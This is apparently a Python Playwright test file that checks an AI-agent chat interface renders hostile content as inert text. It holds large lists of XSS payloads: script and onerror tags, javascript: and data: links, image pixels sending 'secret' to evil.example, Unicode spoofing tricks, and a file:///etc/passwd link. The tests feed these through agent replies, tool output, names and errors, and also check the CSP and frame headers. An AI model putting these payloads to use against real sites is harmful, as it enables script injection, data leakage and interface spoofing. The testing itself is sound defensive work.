@@ -1,0 +1,443 @@
+"""Hostile words on the page: wherever a model, a tool, a file or an error can put them, they are words and nothing else."""
+
+import re
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+from playwright.async_api import Route
+
+from retinue.testing.replies import calls, reply, status
+
+OUT = "https://evil.example"
+
+RAW = [
+    "<script>alert(1)</script>",
+    "<script src='https://evil.example/x.js'></script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script>alert(1)",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "</div></article></main><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror='alert(1)'>",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=x\nonerror=alert(1)>",
+    "<img src='https://evil.example/pixel.png'>",
+    "<img srcset='https://evil.example/pixel.png 1x'>",
+    "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
+    "<img src=x onerror=alert(1)//",
+    "<<img src=x onerror=alert(1)>>",
+    "<picture><source srcset='https://evil.example/a.png'><img src=x onerror=alert(1)></picture>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
+    "<svg><use href='https://evil.example/x.svg#a'></use></svg>",
+    "<svg><image href='https://evil.example/x.png'></image></svg>",
+    "<svg><style>@import 'https://evil.example/x.css';</style></svg>",
+    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
+    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
+    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<math href='javascript:alert(1)'>x</math>",
+    "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>x</maction></math>",
+    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
+    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<iframe src='https://evil.example/'></iframe>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<frameset><frame src='javascript:alert(1)'></frameset>",
+    "<object data='https://evil.example/x.swf'></object>",
+    "<object data='javascript:alert(1)'></object>",
+    "<embed src='https://evil.example/x.pdf'>",
+    "<embed src='javascript:alert(1)'>",
+    "<applet code=x archive='https://evil.example/x.jar'></applet>",
+    "<base href='https://evil.example/'>",
+    "<base target=_top>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<meta http-equiv=Set-Cookie content='a=b'>",
+    "<link rel=stylesheet href='https://evil.example/x.css'>",
+    "<link rel=prefetch href='https://evil.example/x'>",
+    "<link rel=dns-prefetch href='https://evil.example'>",
+    "<link rel=import href='https://evil.example/x.html'>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<style>body{background:url(https://evil.example/x.png)}</style>",
+    "<style>.approvals{display:none}</style>",
+    "<style><img src=x onerror=alert(1)></style>",
+    "<div style='background:url(https://evil.example/x.png)'>x</div>",
+    "<div style='position:fixed;inset:0;z-index:99999'>x</div>",
+    "<div style='width:expression(alert(1))'>x</div>",
+    "<p style='content:url(https://evil.example/x)'>x</p>",
+    "<form action='https://evil.example/'><input name=a><button>Send</button></form>",
+    "<form action='javascript:alert(1)'><input type=submit></form>",
+    "<form id=x></form><button form=x formaction='javascript:alert(1)'>x</button>",
+    "<input autofocus onfocus=alert(1)>",
+    "<input type=image src='https://evil.example/x.png' onerror=alert(1)>",
+    "<input name=attributes><input name=getElementById>",
+    "<textarea autofocus onfocus=alert(1)></textarea>",
+    "<select autofocus onfocus=alert(1)></select>",
+    "<keygen autofocus onfocus=alert(1)>",
+    "<button onclick=alert(1) autofocus onfocus=alert(1)>Allow once</button>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<video src='https://evil.example/x.mp4' autoplay onerror=alert(1)></video>",
+    "<video poster='https://evil.example/x.png'></video>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src='https://evil.example/x.mp3' autoplay></audio>",
+    "<audio src=x onerror=alert(1)></audio>",
+    "<track src='https://evil.example/x.vtt'>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>",
+    "<body onload=alert(1)>",
+    "<html onmouseover=alert(1)>",
+    "<table background='https://evil.example/x.png'><tr><td background='javascript:alert(1)'>x</td></tr></table>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href=' javascript:alert(1)'>x</a>",
+    "<a href='https://evil.example' ping='https://evil.example/ping'>x</a>",
+    "<a id=approvals name=approvals href=x>x</a>",
+    "<a href='//evil.example/x'>x</a>",
+    "<area href='javascript:alert(1)'>",
+    "<isindex action='javascript:alert(1)'>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<noembed><img src=x onerror=alert(1)></noembed>",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<plaintext><script>alert(1)</script>",
+    "<title><img src=x onerror=alert(1)></title>",
+    "<textarea><img src=x onerror=alert(1)></textarea><img src=x onerror=alert(1)>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<!-- --!><img src=x onerror=alert(1)> -->",
+    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<!DOCTYPE x [<!ENTITY a SYSTEM 'https://evil.example/'>]>",
+    "<custom-element onclick=alert(1)>x</custom-element>",
+    "<slot><img src=x onerror=alert(1)></slot>",
+    "<dialog open><button autofocus onfocus=alert(1)>x</button></dialog>",
+    "<portal src='https://evil.example/'></portal>",
+    "<div contenteditable autofocus onfocus=alert(1)>x</div>",
+    "<div data-test=approval class=approvals id=approvals>Allow once</div>",
+    "<div tabindex=0 onfocusin=alert(1)>x</div>",
+    "<p draggable=true ondragstart=alert(1)>x</p>",
+    "&lt;img src=x onerror=alert(1)&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "<%= alert(1) %>",
+    '"><img src=x onerror=alert(1)>',
+    "'-alert(1)-'",
+    "`-alert(1)-`",
+]
+WRITTEN = [
+    "![x](https://evil.example/pixel.png)",
+    '![x](https://evil.example/pixel.png?data=secret "title")',
+    '![x](x"onerror="alert(1))',
+    '![x"onerror="alert(1)](https://evil.example/x.png)',
+    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "![x][y]\n\n[y]: https://evil.example/pixel.png",
+    "[![x](https://evil.example/a.png)](https://evil.example/b)",
+    "[x](https://evil.example/ 'onmouseover=alert(1)')",
+    "[x](<javascript:alert(1)>)",
+    "[x](javascript:alert%281%29)",
+    "[x](javascript://%0aalert(1))",
+    "[x](java\\\nscript:alert(1))",
+    "[x](&#x6A;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x](//evil.example/path)",
+    "[x](\\\\evil.example\\path)",
+    "[x](/api/stop)",
+    "[x](#/s/other)",
+    "[x](https://good.example@evil.example/)",
+    "[https://good.example](https://evil.example/)",
+    '[https://good.example/](https://evil.example/ "https://good.example/")',
+    "<https://evil.example/?q=secret>",
+    "https://evil.example/?q=secret",
+    "www.evil.example/secret",
+    "mail@evil.example",
+    "[x]: javascript:alert(1)\n\n[x]",
+    '[x][1]\n\n[1]: <javascript:alert(1)> "x"',
+    "```html\n<img src=x onerror=alert(1)>\n```",
+    '```"><img src=x onerror=alert(1)>\nx\n```',
+    '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]-->B; click A "javascript:alert(1)"\n```',
+    "```svg\n<svg onload=alert(1)></svg>\n```",
+    "```diff\n+<img src=x onerror=alert(1)>\n-<script>alert(1)</script>\n```",
+    "~~~\n<script>alert(1)</script>\n~~~",
+    "    <script>alert(1)</script>",
+    "`<img src=x onerror=alert(1)>`",
+    "``` <script>alert(1)</script>",
+    "- <img src=x onerror=alert(1)>\n  - <svg onload=alert(1)>",
+    "> <iframe src=javascript:alert(1)>\n> > <script>alert(1)</script>",
+    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
+    "# <img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert(1)>\n===",
+    "**<img src=x onerror=alert(1)>**",
+    "[<img src=x onerror=alert(1)>](https://evil.example/)",
+    "[a](b)<img src=x onerror=alert(1)>",
+    "- [ ] <img src=x onerror=alert(1)>",
+    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
+    "~~<svg onload=alert(1)>~~",
+    "\\<img src=x onerror=alert(1)>",
+    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
+    '<a href="https://evil.example">\n\n**x**\n\n</a>',
+    "$$\\href{javascript:alert(1)}{x}$$",
+    "<details>\n<summary>x</summary>\n\n![x](https://evil.example/y.png)\n\n</details>",
+]
+SCHEMES = [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    "vbscript:msgbox(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "file:///etc/passwd",
+    "blob:https://evil.example/x",
+    "filesystem:https://evil.example/x",
+    "view-source:javascript:alert(1)",
+    "about:blank",
+    "chrome://settings",
+    "ws://evil.example/",
+    "ftp://evil.example/x",
+    "tel:123",
+    "intent://evil.example#Intent;end",
+    "jar:https://evil.example!/x",
+    "feed:javascript:alert(1)",
+]
+FORMS = ["[x]({})", "![x]({})", "<{}>", "[x][z]\n\n[z]: {}"]
+TURNED = [
+    "\u202e<tpircs>)1(trela",
+    "\u2066[x](javascript:alert(1))\u2069",
+    "[exa\u200bmple.org](https://evil.example/)",
+    "https://ex\u0430mple.org/",
+    "[x](https://evil\u3002example/)",
+    "[x](https://evil.example\u2044.good.example/)",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "<img\u00a0src=x\u00a0onerror=alert(1)>",
+    "<scr\u00adipt>alert(1)</scr\u00adipt>",
+    "<img src=x onerror\u2028=alert(1)>",
+    "\ufeff<script>alert(1)</script>",
+    "<\U000e0073cript>alert(1)</script>",
+    "[x](java\u200bscript:alert(1))",
+    "[x](\u0130avascript:alert(1))",
+    "\u001b]8;;javascript:alert(1)\u0007x\u001b]8;;\u0007",
+]
+PAYLOADS = [*RAW, *WRITTEN, *(form.format(scheme) for scheme in SCHEMES for form in FORMS), *TURNED]
+
+# fmt: off
+RENDERED = [
+    "p", "br", "strong", "em", "del", "code", "pre", "blockquote", "ul", "ol", "li", "h3", "h4", "h5", "h6",
+    "table", "thead", "tbody", "tr", "th", "td", "hr", "a", "span",
+]
+# fmt: on
+TAGS = {*RENDERED, "div", "button"}
+ATTRIBUTES = {"href", "class", "target", "rel", "align", "start", "type", "data-test"}
+STEP = """async (log, pages) => {
+    const drawn = () => new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)));
+    for (const each of log.querySelectorAll("details")) each.open = true;
+    await drawn();
+    log.scrollTop += pages * log.clientHeight;
+    await drawn();
+    return log.scrollTop;
+}"""
+INSIDE = """all => all.map(each => ({
+    tag: each.tagName.toLowerCase(),
+    attributes: Object.fromEntries([...each.attributes].map(one => [one.name, one.value])),
+    text: each.textContent,
+}))"""
+
+
+def test_there_are_enough_of_them():
+    assert len(set(PAYLOADS)) >= 200
+
+
+def of(*payloads: str) -> str:
+    """A text of several, each between words that show whether it swallowed what follows."""
+    return "\n\n".join(payloads)
+
+
+async def seen_through(window: Any) -> set[str]:
+    """Looks at everything from the end to the beginning, with every fold open, and at every link. Gives the entries
+    that were shown."""
+    log, links, shown = window("conversation"), 0, set[str]()
+    below = await log.evaluate(STEP, 1e9)
+    while below or not await log.locator(".earlier").filter(has_text="Begun").count():
+        shown |= set(
+            await log.locator("[data-entry]").evaluate_all("all => all.map(each => each.dataset.entry)")
+        )
+        for each in await log.locator(".prose *").evaluate_all(INSIDE):
+            assert each["tag"] in TAGS, each
+            assert set(each["attributes"]) <= ATTRIBUTES, each
+            assert each["tag"] != "button" or each["attributes"]["class"] == "copy-code", each
+            if each["tag"] == "a":
+                links += 1
+                leads_where_it_says(each["attributes"]["href"], each["text"], each["attributes"])
+        below = await log.evaluate(STEP, -0.5)
+    assert links
+    return shown
+
+
+def leads_where_it_says(href: str, text: str, attributes: dict[str, str]) -> None:
+    there = urlsplit(href)
+    assert there.scheme in ("http", "https", "mailto"), href
+    assert (there.hostname or there.path) in text, (href, text)
+    assert (attributes["target"], attributes["rel"]) == ("_blank", "noopener noreferrer")
+
+
+async def test_words_of_models_and_tools_are_words(house: Any):
+    """Shows: U06, U07."""
+    turns = [calls(("echo", {"words": payload}), text=payload, piece=64) for payload in PAYLOADS]
+    task = house.plays("Say everything bad.", *turns, reply("That was all of it."))
+    session = await house.session()
+    async with house.opened(1440, 4000) as window:
+        await window.goes(session["session_id"])
+        await window.says(task)
+        await window.see(window("said-agent").locator(".prose").last).to_have_text("That was all of it.")
+        shown = await seen_through(window)
+        await window.see("approvals").to_have_count(0)
+        assert window.page.url.startswith(window.base)
+        assert len(window.page.context.pages) == 1
+    entries = await house.api("GET", f"/sessions/{session['session_id']}/entries")
+    assert sum(each["kind"] == "returned" and each["ok"] for each in entries) == len(PAYLOADS)
+    drawn = [
+        each
+        for each in entries
+        if each["kind"] == "called" or (each["kind"] == "said" and each["text"].strip())
+    ]
+    assert {each["id"] for each in drawn} == shown
+
+
+@pytest.fixture(scope="module")
+async def house(furnished: Any) -> Any:
+    """Its tool gives back what it is given, and an agent's own file is hostile as well."""
+    async with furnished() as house:
+        (house.folder / "echoes.py").write_text(ECHO)
+        house.configured(tools=["held:hold", "held:tell", "echoes:echo"], limits={"identical_calls": 1000})
+        house.agent(
+            "mimic",
+            "display_name: <img src=x onerror=alert(1)>\n"
+            "description: '<script>alert(1)</script>![x](https://evil.example/x.png)'\n",
+            "You mimic.",
+        )
+        await house.start()
+        yield house
+
+
+ECHO = '''
+from retinue import tool
+
+@tool(effect="read")
+async def echo(words: str) -> str:
+    """Gives back what it is given."""
+    return words
+'''
+NAMES = [each for each in PAYLOADS if each.isprintable() and len(each) < 200][::14]
+
+
+async def test_names_of_sessions_and_agents_are_words(house: Any):
+    """Shows: U06."""
+    session = await house.session("mimic")
+    where = f"/sessions/{session['session_id']}"
+    async with house.opened() as window:
+        await window.see("pick-agent", agent="mimic").to_have_count(1)
+        await window("new-session").click()
+        await window.see("new-with", agent="mimic").to_contain_text("<script>alert(1)</script>")
+        await window.page.keyboard.press("Escape")
+        await window.goes(session["session_id"])
+        assert len(NAMES) > 10
+        for name in NAMES:
+            await house.api("PATCH", where, {"name": name})
+            await window.see("title").to_have_text(name)
+            title = window("session-row", session=session["session_id"]).locator(".session-title")
+            await window.see(title).to_have_text(name)
+        await window.does("clear")
+        await window.see("clear-dialog").to_contain_text(NAMES[-1])
+        await window.page.keyboard.press("Escape")
+        await window("search").fill("<img src=x onerror=alert(1)>")
+        await window.see("no-matches").to_contain_text("<img src=x onerror=alert(1)>")
+        await window("search").fill("")
+        await window.does("delete")
+        await window.see(window("toast").last).to_contain_text(NAMES[-1])
+
+
+async def test_errors_are_words(house: Any):
+    """Shows: U06."""
+    session = await house.session()
+    chosen = RAW[:60:6]
+    async with house.opened() as window:
+        await window.goes(session["session_id"])
+        for i, payload in enumerate(chosen):
+            task = house.plays(f"Fail in way {i}.", status(400, f"no: {payload}"))
+            await window.says(task)
+            await window.see("run-ended", status="failed").to_have_count(i + 1)
+            await window.see(window("run-ended").last).to_contain_text(payload.split("\n")[0][:20])
+        await window("open-runs").click()
+        await window.see(window("run").first).to_be_visible()
+
+
+async def test_files_and_calls_are_words_in_questions_and_folds(house: Any):
+    """Shows: U06, U09."""
+    session = await house.session()
+    names = ["<img src=x onerror=alert(1)>.txt", "[x](javascript:alert(1)).md", "'\"><svg onload=alert(1)>"]
+    async with house.opened() as window:
+        await window.goes(session["session_id"])
+        for i, name in enumerate(names):
+            task = house.plays(
+                f"Write name {i}.",
+                calls(("write", {"path": name, "content": of(*RAW[:20])})),
+                calls(("glob", {"pattern": "**/*"})),
+                reply(f"`{name}`"),
+            )
+            await window.says(task)
+            await window.see("approval-resource").to_contain_text(name)
+            await window.see(
+                window("approvals").locator("img, script, iframe, a[href], form, style")
+            ).to_have_count(0)
+            await window("deny" if i else "allow").click()
+            await window.see("approvals").to_have_count(0)
+            await window.see(window("said-agent").locator(".prose")).to_have_count(i + 1)
+        (house.folder / names[0]).unlink(missing_ok=True)
+
+
+@pytest.mark.parametrize(
+    "hash",
+    [
+        "#/s/<img src=x onerror=alert(1)>",
+        "#/new/<script>alert(1)<~script>",
+        "#/s/..%2F..%2Fapi%2Fstop",
+        "#/s/%E0%A4%A",
+        "#javascript:alert(1)",
+    ],
+)
+async def test_addresses_are_words(house: Any, hash: str):  # noqa: A002
+    async with house.opened() as window:
+        await window.page.evaluate("where => { location.hash = where }", hash)
+        await window.see(window.page.locator("main")).to_be_visible()
+        await window.see("sidebar").to_be_visible()
+        await window.page.reload()
+        await window.see("sidebar").to_be_visible()
+
+
+async def test_nobody_can_frame_the_page(house: Any):
+    """Shows: U08."""
+    link = (await house.api("POST", "/links"))["url"]
+    context = await house.browser.new_context()
+    page = await context.new_page()
+    entered = await page.goto(link)
+    headers = entered.headers
+    assert "frame-ancestors 'none'" in headers["content-security-policy"]
+    assert "default-src 'none'" in headers["content-security-policy"]
+    assert not re.search("unsafe|http:|https:|\\*", headers["content-security-policy"])
+    assert headers["x-frame-options"] == "DENY"
+    frames = f"<iframe src='{house.base}/' id=inner></iframe>"
+
+    async def framed(route: Route) -> None:
+        await route.fulfill(body=frames, content_type="text/html")
+
+    await page.route("http://framer.example/", framed)
+    await page.goto("http://framer.example/")
+    inner = page.frames[1]
+    assert not inner.url.startswith(house.base)
+    assert await inner.locator("[data-test]").count() == 0
+    await context.close()
